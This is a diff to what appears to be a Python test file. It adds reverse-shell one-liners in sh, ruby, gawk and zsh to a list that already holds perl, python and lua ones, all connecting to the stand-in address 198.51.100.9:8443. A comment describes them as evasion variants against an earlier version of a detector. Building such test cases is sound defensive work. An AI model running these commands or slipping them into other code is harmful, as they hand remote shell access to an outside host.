@@ -97,6 +97,12 @@ def test_an_existing_dotfile_overwritten_is_still_said_so(workspace, home, env):
     "while(<$c>){$o=`$_`;print $c $o}'",
     "python3 -c 'import socket,pty,os;s=socket.create_connection((\"198.51.100.9\",8443));"
     "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn(\"bash\")'",
+    # the lead's own attack on the first version: `exec` before the shell, a glued `-e'…'`, gawk's network files,
+    # zsh's ztcp module
+    "sh -c \"exec zsh -i &>/dev/tcp/198.51.100.9/8443 <&1\"",
+    "ruby -rsocket -e'f=TCPSocket.open(\"198.51.100.9\",8443).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
+    "gawk 'BEGIN{s=\"/inet/tcp/0/198.51.100.9/8443\";while((s|&getline c)>0){while((c|&getline l)>0)print l|&s;close(c)}}'",
+    "zsh -c 'zmodload zsh/net/tcp; ztcp 198.51.100.9 8443; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
     "lua -e \"local s=require('socket').tcp();s:connect('198.51.100.9',8443);"
     "while true do local c=s:receive();local f=io.popen(c,'r');s:send(f:read('*a'));f:close() end\"",
 ])
